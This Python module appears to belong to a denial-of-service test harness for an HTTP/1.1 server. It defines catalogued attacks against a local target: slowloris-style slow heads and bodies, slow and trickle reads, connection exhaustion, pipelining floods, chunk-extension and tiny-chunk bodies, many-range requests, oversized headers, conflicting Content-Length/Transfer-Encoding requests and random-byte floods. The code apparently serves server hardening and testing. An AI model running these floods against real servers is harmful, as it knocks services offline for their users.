"""Attacks over HTTP/1.1."""
import os
import random
import socket

from catalogue import attack

GET = b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n"


@attack("slow-heads", "h1", "H1-15", "500 connections each send a request head, a byte a second")
def slow_heads(run):
    channels = run.many(500, run.tls)
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 3600
    run.drip(channels, lambda n: head[n:n + 1])


@attack("slow-body", "h1", "H1-16", "200 connections each send a request body, a byte a second")
def slow_body(run):
    channels = run.many(200, run.tls)
    head = b"POST /small.txt HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n"
    run.drip(channels, lambda n: head if n == 0 else b"a")


@attack("slow-read", "h1", "H1-17", "200 connections ask for 16 MiB and read nothing of it")
def slow_read(run):
    channels = run.many(200, lambda: run.tls(receive_buffer=4096))
    for channel in channels:
        channel.send(GET % b"/big.bin")
    run.keep(channels)


@attack("trickle-read", "h1", "H1-17",
        "200 connections ask for 16 MiB and read 100 bytes of it a second")
def trickle_read(run):
    channels = run.many(200, lambda: run.tcp(receive_buffer=4096))
    for channel in channels:
        channel.send(GET % b"/big.bin")
    while run.on():
        for channel in channels:
            channel.take_once(100)
        run.pause(1)


def asked(run, connect):
    """Connections that are kept alive: one request each."""
    def ask():
        channel = connect()
        if channel is not None:
            channel.send(GET % b"/small.txt")
        return channel
    return ask


@attack("idle", "h1", "H1-18", "1,000 connections of one address are kept alive and say nothing more")
def idle(run):
    run.hold(run.many(1000, asked(run, run.tls)))


@attack("full-house", "plain", "F5", "4,000 connections of one address, more than there are places, "
        "are kept alive, and made again when they are closed")
def full_house(run):
    channels = []
    while run.on():
        channels = [channel for channel in channels if not channel.over]
        fresh = run.many(min(200, 4000 - len(channels)), run.tcp)
        for channel in fresh:
            channel.send(GET % b"/small.txt")
        channels += fresh
        for channel in channels:
            channel.take()
        run.pause(0.1)


@attack("pipelining", "h1", "H1-19", "10,000 GETs in one write, and nothing is read, on 20 connections")
def pipelining(run):
    channels = run.many(20, lambda: run.tls(receive_buffer=4096))
    for channel in channels:
        channel.send(GET % b"/small.txt" * 10000, patience=0.2)
    run.keep(channels)


@attack("pipelining-read", "h1", "H1-19", "10,000 GETs in one write, again and again, all read")
def pipelining_read(run):
    run.flood(run.tls, lambda n: GET % b"/small.txt" * 500)


@attack("chunk-extensions", "h1", "H1-09", "chunks of one byte, each with an extension of 1 KiB")
def chunk_extensions(run):
    head = b"POST /small.txt HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"1;x=" + b"y" * 1024 + b"\r\na\r\n"
    run.flood(run.tls, lambda n: (head if n == 0 else b"") + chunk * 60)


@attack("tiny-chunks", "h1", "H1-09", "a body in a million chunks of one byte")
def tiny_chunks(run):
    head = b"POST /small.txt HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    run.flood(run.tls, lambda n: (head if n == 0 else b"") + b"1\r\na\r\n" * 5000)


@attack("many-ranges", "h1", "S-09", "requests with 1,500 ranges each, small or overlapping")
def many_ranges(run):
    ranges = b",".join(b"%d-" % i for i in range(1500))
    ask = b"GET /big.bin HTTP/1.1\r\nHost: localhost\r\nRange: bytes=" + ranges + b"\r\n\r\n"
    run.flood(lambda: run.tls(receive_buffer=4096), lambda n: ask)


@attack("multipart", "h1", "F2", "requests for 16 ranges of a byte, again and again, all read")
def multipart(run):
    ranges = b",".join(b"%d-%d" % (i * 1000, i * 1000) for i in range(16))
    ask = b"GET /big.bin HTTP/1.1\r\nHost: localhost\r\nRange: bytes=" + ranges + b"\r\n\r\n"
    run.flood(run.tls, lambda n: ask * 16)


@attack("large-heads", "h1", "H1-13", "heads of 100 KiB, which are too large")
def large_heads(run):
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"".join(
        b"X-%d: %s\r\n" % (i, b"a" * 1000) for i in range(100))
    run.flood(run.tls, lambda n: head)


@attack("refused-requests", "h1", "H1-01", "requests that are malformed, a connection for each")
def refused_requests(run):
    while run.on():
        channel = run.tcp()
        if channel is None:
            run.pause(0.05)
            continue
        channel.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
        channel.take(0.01)
        channel.close()


@attack("garbage", "plain", "H1-25",
        "random bytes to the port with TLS, the one without, and as datagrams")
def garbage(run):
    rng = random.Random(15)
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind((run.target.source, 0))
    while run.on():
        for port in (run.target.port, run.target.plain):
            channel = run.tcp(port)
            if channel is not None:
                channel.send(rng.randbytes(rng.randrange(1, 20000)))
                channel.take(0.01)
                channel.close()
        for _ in range(50):
            data = os.urandom(rng.randrange(0, 1500))
            run.bytes += datagrams.sendto(data, (run.target.address, run.target.port))
    datagrams.close()
